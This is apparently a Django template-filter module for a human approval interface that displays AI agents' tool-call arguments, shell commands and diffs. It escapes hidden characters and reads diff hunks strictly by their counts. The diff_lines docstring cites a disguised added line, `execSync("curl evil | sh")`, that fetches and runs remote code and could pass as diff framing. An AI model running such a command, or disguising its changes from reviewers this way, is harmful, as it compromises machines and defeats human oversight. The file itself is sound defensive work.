"""Filters for showing agent-supplied data. None of them marks anything safe."""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterable
from typing import Any

from django import template
from django.utils.text import Truncator

from approvals import display
from dispatcher.models import Preview, Status, ToolCall

register = template.Library()


@register.filter
def visible(value: object) -> str:
    r"""Invisible and bidi characters as `\uXXXX` escapes; autoescaping still applies."""
    return display.visible("" if value is None else value)


@register.filter
def pretty_arguments(raw: str) -> str:
    return display.pretty_arguments(raw)[0]


@register.filter
def editable_json(raw: str) -> str:
    return display.editable_json(raw)


@register.filter
def plain_text(value: object) -> bool:
    """A string without invisible characters: safe to put raw in an editor."""
    return isinstance(value, str) and not display.has_hidden(value)


@register.filter
def repeated_keys(raw: str) -> list[str]:
    return display.pretty_arguments(raw)[1]


@register.filter
def shell_reading(command: str) -> dict[str, object]:
    """The parts of a shell command string (see display.shell_reading)."""
    return display.shell_reading(command)


@register.filter
def call_preview(call: ToolCall) -> Preview | None:
    """The call's previewed effect (dispatcher.previews), or None."""
    try:
        return call.preview
    except Preview.DoesNotExist:
        return None


_HUNK = re.compile(r"@@ -\d+(?:,(\d+))? \+\d+(?:,(\d+))? @@")


@register.filter
def diff_lines(diff: str, form: str | None = None) -> list[tuple[str, str]]:
    """(css class, line) for each line of a unified diff. Lines end at newlines only: a
    line or paragraph separator, form feed or the like inside a line is shown escaped.

    A line's kind is read as `patch` reads it: inside a hunk, by its first character, for
    as many old and new lines as the hunk's header counts (an added line `++n;` or a
    removed `--- a` is a change, not a header: shown in the headers' colour, an added
    `++n; execSync("curl evil | sh")` passed for part of the diff's frame); outside one,
    every line is the frame's (`---`, `+++`, `@@`, `\\ No newline at end of file`).
    A hunk whose counts run out early or late shows what is left as the frame's, never
    as context; a hunk header there starts a new hunk.

    `form` "codex_patch" is a patch in Codex's format (`dispatcher.tools.codex`), read
    as Codex's parser reads it: its `@@` lines carry context text, never counts, and a
    line's first character alone says what it is (read by counts, every line such a patch
    adds was shown as the frame's)."""
    if form == "codex_patch":
        return _patch_lines(diff)
    lines = []
    old = new = 0
    for line in str(diff).removesuffix("\n").split("\n") if diff else []:
        kind = "meta"
        if old > 0 or new > 0:
            first = line[:1]
            if first == "+" and new > 0:
                kind, new = "add", new - 1
            elif first == "-" and old > 0:
                kind, old = "del", old - 1
            elif first == " " and old > 0 and new > 0:
                kind, old, new = "ctx", old - 1, new - 1
            elif first == "\\":
                pass
            else:  # not what the header counted: the rest is shown as the frame's
                old = new = 0
        if kind == "meta" and (match := _HUNK.match(line)):
            old = int(match[1] if match[1] is not None else 1)
            new = int(match[2] if match[2] is not None else 1)
        lines.append((kind, display.visible(line)))
    return lines


@register.filter
def presented_diff_lines(presentation: dict[str, Any]) -> list[tuple[str, str]]:
    """`diff_lines` of a presentation's diff, in the form it names (a Codex patch's
    `format`; a unified diff's without one)."""
    return diff_lines(presentation.get("diff") or "", presentation.get("format"))


_PATCH_KINDS = {"+": "add", "-": "del", " ": "ctx", "": "ctx"}


def _patch_lines(patch: str) -> list[tuple[str, str]]:
    """(css class, line) of a Codex patch's lines: `+` added, `-` removed, ` ` (or an
    empty line) context, as Codex's parser takes them; any other (`*** ...`, `@@ ...`)
    the frame's."""
    return [
        (_PATCH_KINDS.get(line[:1], "meta"), display.visible(line))
        for line in (str(patch).removesuffix("\n").split("\n") if patch else [])
    ]


@register.filter
def session_rows(history: Iterable[Any]) -> list[tuple[str, str, str, str, str]]:
    """Each earlier call of a request's session as the text its row shows: (tool, status,
    its label, who decided, why: the reason cut at 300 characters as `truncatechars:300`),
    `visible` applied; plain text, which the template autoescapes.

    One pass in Python over the rows rather than filters per row in the template: every
    pushed ask renders 20 of them, and the loop with `get_status_display` and
    `truncatechars` per row was most of the fragment's render (1.44 of 2.28 ms; 0.48 ms
    this way: docs/benchmarks.md, "What changed (this session)")."""
    return [
        (
            display.visible(call.name),
            call.status,
            _STATUS_LABELS.get(call.status, call.status),
            display.visible(call.decided_by),
            _first_chars(display.visible(call.reason), 300),
        )
        for call in history
    ]


_STATUS_LABELS = {value: str(label) for value, label in Status.choices}


def _first_chars(text: str, length: int) -> str:
    """`Truncator(text).chars(length)`, without its per-character walk when the text is
    short enough that nothing can be cut (combining characters only lower the count)."""
    normalized = unicodedata.normalize("NFC", text)
    if len(normalized) <= length:
        return normalized
    return Truncator(normalized).chars(length)


@register.filter
def folds(raw: str) -> bool:
    """Whether a queue item shows these logged arguments folded (display.FOLD_AT)."""
    return len(raw) > display.FOLD_AT


@register.filter
def folded_arguments(raw: str) -> tuple[list[tuple[str, str, int]], list[str]]:
    """See display.folded_arguments."""
    return display.folded_arguments(raw)
